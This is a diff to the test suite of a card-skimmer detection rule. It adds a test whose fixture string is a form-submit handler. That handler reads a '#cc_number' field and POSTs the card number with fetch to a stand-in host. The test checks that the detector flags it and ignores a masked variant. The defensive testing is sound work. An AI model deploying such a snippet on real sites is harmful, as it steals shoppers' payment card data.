@@ -53,6 +53,18 @@ describe('sends the first look cannot name', () => {
     )
   })
 
+  it("masking is of a field's value: a library's random id ('x'.repeat(16)) masks nothing", () => {
+    const send = `document.addEventListener('submit', function () {
+        var c = document.querySelector('#cc_number').value
+        fetch('https://h.example/c', { method: 'POST', mode: 'no-cors', body: c }) }, true)`
+    const libraryId = `var uid = function (n) { return 'x'.repeat(n).replace(/x/g, function () {
+        return Math.round(16 * Math.random()).toString(16) }) }\n`
+    expect(rules(libraryId + send)).toContain('card-field-read-and-send')
+    // a replay tool's mask over the value itself still explains its reads
+    const masked = send.replace('body: c', "body: c.replace(/./g, '*')")
+    expect(rules(masked)).not.toContain('card-field-read-and-send')
+  })
+
   it('names joined by a one-line wrapper of + are names', () => {
     const source = `var j = function (a, b) { return a + b }
       document[j('addEvent', 'Listener')](j('sub', 'mit'), function () {
